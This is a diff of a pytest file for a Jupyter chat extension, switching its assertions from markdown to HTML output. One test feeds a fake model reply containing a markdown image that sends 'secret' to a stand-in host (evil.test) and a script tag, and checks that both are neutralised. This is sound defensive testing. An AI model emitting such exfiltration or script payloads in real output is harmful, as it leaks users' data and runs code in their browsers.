@@ -49,9 +49,9 @@ def shell(monkeypatch):
     ip.config.pop("Chat", None)
 
 
-def final_markdown(ip) -> str:
-    outputs = [o for o in ip.publisher.outputs if "text/markdown" in o["data"]]
-    return outputs[-1]["data"]["text/markdown"]
+def final_html(ip) -> str:
+    outputs = [o for o in ip.publisher.outputs if "text/html" in o["data"]]
+    return outputs[-1]["data"]["text/html"]
 
 
 def test_cell_body_is_sent_as_the_user_message_and_streams(shell):
@@ -62,7 +62,7 @@ def test_cell_body_is_sent_as_the_user_message_and_streams(shell):
     assert body["model"] == "fake-model"
     assert body["stream"] is True
     assert body["stream_options"] == {"include_usage": True}
-    markdown = final_markdown(shell)
+    markdown = final_html(shell)
     assert "Hi there, friend." in markdown
     assert "10 prompt + 5 completion = 15 tokens" in markdown
 
@@ -164,9 +164,9 @@ def test_history_renders_the_conversation(shell):
     shell.server.reply("an answer")
     shell.run_cell_magic("chat", "", "a question")
     shell.run_line_magic("chat", "history")
-    markdown = final_markdown(shell)
-    assert "**user**: a question" in markdown
-    assert "**assistant**: an answer" in markdown
+    markdown = final_html(shell)
+    assert "<strong>user</strong><p>a question</p>" in markdown
+    assert "<strong>assistant</strong><p>an answer</p>" in markdown
 
 
 def test_out_stores_the_reply_text(shell):
@@ -246,7 +246,7 @@ def test_interrupted_stream_keeps_the_partial_reply_marked(shell, monkeypatch):
         {"role": "assistant", "content": "abcd"},
     ]
     assert chat.interrupted == [1]
-    assert "Interrupted" in final_markdown(shell)
+    assert "Interrupted" in final_html(shell)
 
 
 def test_live_updates_are_coalesced_for_a_long_stream(shell):
@@ -256,7 +256,7 @@ def test_live_updates_are_coalesced_for_a_long_stream(shell):
     updates = [o for o in shell.publisher.outputs if o["update"]]
     # 3000 chunks arrive within well under a second here: a handful of updates at most.
     assert len(updates) < 60
-    assert "x" * 3000 in final_markdown(shell)
+    assert "x" * 3000 in final_html(shell)
 
 
 def test_no_stream_and_display_final(shell):
@@ -264,7 +264,7 @@ def test_no_stream_and_display_final(shell):
     shell.server.reply("whole")
     shell.run_cell_magic("chat", "", "hi")
     assert not any(o["update"] for o in shell.publisher.outputs)
-    assert "whole" in final_markdown(shell)
+    assert "whole" in final_html(shell)
 
 
 def test_text_display_prints_plain_text(shell, capsys):
@@ -289,8 +289,8 @@ def test_raw_shows_the_exchange_without_the_key(shell):
 def test_dry_run_renders_the_request_and_sends_nothing(shell):
     shell.run_cell_magic("chat", "--dry-run -t 0.3", "hi")
     assert shell.server.requests == []
-    text = final_markdown(shell)
-    assert '"temperature": 0.3' in text
+    text = final_html(shell)
+    assert "&quot;temperature&quot;: 0.3" in text
     assert "Dry run" in text
     assert nbchat.session().messages == []
 
@@ -307,23 +307,23 @@ def test_config_shows_settings_with_the_key_hidden(shell, monkeypatch, capsys):
 def test_length_finish_reason_shows_a_warning(shell):
     shell.server.reply("cut", finish_reason="length")
     shell.run_cell_magic("chat", "", "hi")
-    assert "max_tokens" in final_markdown(shell)
+    assert "max_tokens" in final_html(shell)
 
 
 def test_n_choices_are_each_shown_labelled(shell):
     shell.server.reply("same", choices=2)
     shell.run_cell_magic("chat", "-n 2 --no-stream", "hi")
-    markdown = final_markdown(shell)
-    assert "**Choice 1**" in markdown and "**Choice 2**" in markdown
+    markdown = final_html(shell)
+    assert "<strong>Choice 1</strong>" in markdown and "<strong>Choice 2</strong>" in markdown
 
 
 def test_model_markdown_cannot_fetch_images_or_run_html(shell):
     shell.server.reply("See ![x](http://evil.test/?q=secret) <script>alert(1)</script>")
     shell.run_cell_magic("chat", "", "hi")
-    markdown = final_markdown(shell)
-    assert "![" not in markdown
+    markdown = final_html(shell)
+    assert "<img" not in markdown
     assert "<script>" not in markdown
-    assert "[🖼 x](http://evil.test/?q=secret)" in markdown
+    assert '<a href="http://evil.test/?q=secret"' in markdown and "🖼 x</a>" in markdown
 
 
 def test_tools_options_reach_the_request_and_the_loop_runs(shell):
@@ -342,8 +342,8 @@ def test_tools_options_reach_the_request_and_the_loop_runs(shell):
     assert first["tool_choice"] == {"type": "function", "function": {"name": "add"}}
     assert first["parallel_tool_calls"] is False
     assert {"role": "tool", "tool_call_id": "c1", "content": "5"} in second["messages"]
-    markdown = final_markdown(shell)
-    assert "<details><summary>✅ add(" in markdown
+    markdown = final_html(shell)
+    assert "<summary>✅ <code>add(" in markdown
     assert "It is 5." in markdown
 
 
@@ -454,9 +454,9 @@ def test_dry_run_with_tools_and_a_forced_choice_shows_both(shell):
 
     shell.user_ns["add"] = add
     shell.run_cell_magic("chat", "--dry-run --tools add --tool-choice add", "2+3?")
-    text = final_markdown(shell)
-    assert '"name": "add"' in text
-    assert '"tool_choice"' in text
+    text = final_html(shell)
+    assert "&quot;name&quot;: &quot;add&quot;" in text
+    assert "&quot;tool_choice&quot;" in text
     assert shell.server.requests == []
 
 
@@ -465,7 +465,7 @@ def test_dry_run_shortens_image_data_urls_but_out_holds_them_in_full(shell):
 
     shell.user_ns["noise"] = Image.effect_noise((512, 512), 64)
     shell.run_cell_magic("chat", "--dry-run --image noise -o body", "What is it?")
-    text = final_markdown(shell)
+    text = final_html(shell)
     assert "characters not shown" in text
     assert len(text) < 5000
     url = shell.user_ns["body"]["messages"][-1]["content"][1]["image_url"]["url"]
